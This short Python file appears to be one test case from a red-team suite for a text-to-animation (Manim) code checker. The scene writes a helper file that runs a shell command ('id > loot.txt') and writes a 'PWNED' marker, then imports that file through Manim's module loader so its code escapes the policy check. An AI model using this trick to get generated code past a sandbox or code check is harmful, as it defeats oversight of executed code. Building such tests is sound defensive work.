# family: interpreter-escape
# layer: policy
# attack: Manim's own module loader imports a file the scene wrote, so its code is never checked
from pathlib import Path
import manim
from manim import *


class Attack(Scene):
    def construct(self):
        Path("x.py").write_text("import os\nos.system('id > loot.txt')\nopen('loot.txt', 'a').write('T2M-' 'PWNED')\n")
        manim.utils.module_ops.get_module(Path("x.py"))
        self.wait(0.1)
